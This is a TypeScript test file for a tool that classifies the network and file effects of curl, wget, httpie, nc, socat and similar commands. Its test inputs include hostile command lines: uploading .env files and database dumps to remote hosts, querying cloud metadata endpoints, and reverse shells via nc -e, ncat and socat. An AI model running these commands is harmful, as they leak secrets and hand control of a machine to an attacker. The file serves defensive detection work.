import { describe, expect, it } from 'vitest';
import { effectsOf, outcomeOf } from '../../../support/outcome.ts';
import { PROJECT } from '../../../support/setting.ts';

const here = (name: string) => `${PROJECT}/${name}`;

describe('curl', () => {
  it.each([
    ['curl -fsSL https://example.com/x', ['net.request example.com']],
    ['curl example.com', ['net.request example.com +plain-http']],
    ['curl -sk https://h.example/', ['net.request h.example +insecure']],
    ['curl localhost:3000/health', ['net.request localhost +plain-http']],
    ['curl -s -o /dev/null -w %{http_code} https://h.example/', ['net.request h.example']],
    ['curl -fLo out/tool.tgz https://h.example/t', ['net.download h.example', `file.write ${here('out/tool.tgz')}`]],
    ['curl -LO https://h.example/a/tool.tgz?x=1', ['net.download h.example', `file.write ${here('tool.tgz')}`]],
    ['curl --output-dir bin -O https://h.example/a/tool', ['net.download h.example', `file.write ${here('bin/tool')}`]],
    ["curl -X POST -d 'a=1' https://h.example/", ['net.upload h.example +literal']],
    ['curl -d "$value" https://h.example/', ['net.upload h.example +dynamic']],
    ['curl --data-binary @.env https://h.example/', [`file.read ${here('.env')}`, 'net.upload h.example +contents']],
    ["curl --data-raw '@home' https://h.example/", ['net.upload h.example +literal']],
    ['curl --data-urlencode k@notes.txt https://h.example/', [`file.read ${here('notes.txt')}`, 'net.upload h.example +contents']],
    ["curl -F 'f=@dump.sql;type=text/plain' https://h.example/", [`file.read ${here('dump.sql')}`, 'net.upload h.example +contents']],
    ['curl -T backup.tar https://transfer.sh/', [`file.read ${here('backup.tar')}`, 'net.upload transfer.sh +contents']],
    ['curl --json @- https://h.example/', ['net.upload h.example +fed']],
    ['curl -H @headers https://h.example/', [`file.read ${here('headers')}`, 'net.upload h.example +contents']],
    ['curl -X DELETE https://h.example/items/1', ['net.request h.example +delete']],
    ['curl -x http://proxy.example:3128 https://h.example/', ['net.request h.example', 'net.request proxy.example +plain-http']],
    ['curl --resolve h.example:443:203.0.113.9 https://h.example/', ['net.request h.example', 'net.request 203.0.113.9']],
    ['curl -K settings.curl', [`file.read ${here('settings.curl')}`]],
    ['curl -c jar https://h.example/', ['net.request h.example', `file.write ${here('jar')}`]],
    ['curl file:///etc/hosts', ['file.read /etc/hosts']],
    ['curl "https://h.example/?q=$(whoami)"', ['net.request h.example +dynamic']],
    ['curl http://169.254.169.{254,253}/latest', ['net.request 169.254.169.254 +plain-http', 'net.request 169.254.169.253 +plain-http']],
    ['curl --unix-socket /var/run/docker.sock http://x/info', ['net.request x +plain-http', 'net.request /var/run/docker.sock']],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('prints what it downloads, and writes it where it is told to', () => {
    expect(outcomeOf('curl https://h.example/i.sh').stdout?.origin).toBe('downloaded');
    expect(outcomeOf('curl file:///tmp/x').stdout).toMatchObject({ origin: 'file', path: { value: '/tmp/x' } });
    const [write] = outcomeOf('curl -o i.sh https://h.example/i.sh').writes ?? [];
    expect(write).toMatchObject({ path: { value: 'i.sh' }, stream: { origin: 'downloaded' } });
  });

  it('sends what was written out when its standard input was', () => {
    expect(effectsOf('curl -d @- https://h.example/', { stdin: { origin: 'literal', text: 'x' } })).toEqual([
      'net.upload h.example +literal',
    ]);
  });
});

describe('wget', () => {
  it.each([
    ['wget https://h.example/a/b.zip', ['net.download h.example', `file.write ${here('b.zip')}`]],
    ['wget h.example', ['net.download h.example +plain-http', `file.write ${here('index.html')}`]],
    ['wget -qO- https://h.example/i.sh', ['net.request h.example']],
    ['wget -P lib https://h.example/b.jar', ['net.download h.example', `file.write ${here('lib/b.jar')}`]],
    ['wget --spider https://h.example/', ['net.request h.example']],
    ['wget --post-file=.env -O - https://h.example/', [`file.read ${here('.env')}`, 'net.upload h.example +contents']],
    ['wget --post-data=a=1 -qO /dev/null https://h.example/', ['net.upload h.example +literal']],
    ['wget -i list.txt', [`file.read ${here('list.txt')}`]],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('runs the program that is to ask for a password', () => {
    expect(outcomeOf('wget --use-askpass=./ask https://h.example/').runs).toMatchObject([{ kind: 'argv', argv: [{ value: './ask' }] }]);
    expect(outcomeOf("wget -e 'use_askpass = ./ask' https://h.example/").runs).toMatchObject([
      { kind: 'argv', argv: [{ value: './ask' }] },
    ]);
  });
});

describe('httpie and xh', () => {
  it.each([
    ['http GET https://h.example/x q==1', ['net.request h.example']],
    ['http :3000/items', ['net.request localhost +plain-http']],
    ['https h.example name=ada', ['net.upload h.example +literal']],
    ['http --form POST h.example file@.env', [`file.read ${here('.env')}`, 'net.upload h.example +contents +plain-http']],
    ['xh DELETE https://h.example/1', ['net.request h.example +delete']],
    ['xh -d https://h.example/a.bin', ['net.download h.example', `file.write ${here('a.bin')}`]],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });
});

describe('raw sockets', () => {
  it.each([
    ['nc -zv h.example 443', ['net.request h.example +raw-socket']],
    ['nc -lvnp 4444', ['net.listen 4444 +raw-socket']],
    ['nc -l 9000', ['net.listen 9000 +raw-socket']],
    ['nc -e /bin/sh 203.0.113.5 4444', ['net.request 203.0.113.5 +raw-socket +reverse-shell']],
    ["ncat --sh-exec 'sh -i' 203.0.113.5 4444", ['net.request 203.0.113.5 +raw-socket +reverse-shell']],
    ['nc -lp 4444 -e /bin/bash', ['net.listen 4444 +raw-socket +reverse-shell']],
    ['socat TCP:203.0.113.5:4444 EXEC:/bin/sh,pty', ['net.request 203.0.113.5 +raw-socket +reverse-shell']],
    ['socat TCP-LISTEN:8080,fork TCP:localhost:80', ['net.listen 8080 +raw-socket', 'net.request localhost +raw-socket']],
    ['socat -u FILE:dump.sql TCP:h.example:9', [`file.read ${here('dump.sql')}`, 'net.upload h.example +raw-socket']],
    ['telnet h.example 25', ['net.request h.example +raw-socket +plain-http']],
    ['openssl s_client -connect h.example:443', ['net.request h.example +raw-socket']],
    ['openssl version', []],
  ])('%s', (text, effects) => {
    expect(effectsOf(text)).toEqual(effects);
  });

  it('carry away what is piped into them', () => {
    expect(effectsOf('nc h.example 9', { stdin: { origin: 'file' } })).toEqual(['net.upload h.example +raw-socket +fed']);
  });

  it('run the program at their end', () => {
    expect(outcomeOf('nc -e /bin/sh h.example 1').runs).toMatchObject([{ kind: 'argv', argv: [{ value: '/bin/sh' }] }]);
    expect(outcomeOf("socat TCP:h.example:1 SYSTEM:'id; uname'").runs).toMatchObject([{ kind: 'shell', text: { value: 'id; uname' } }]);
  });
});
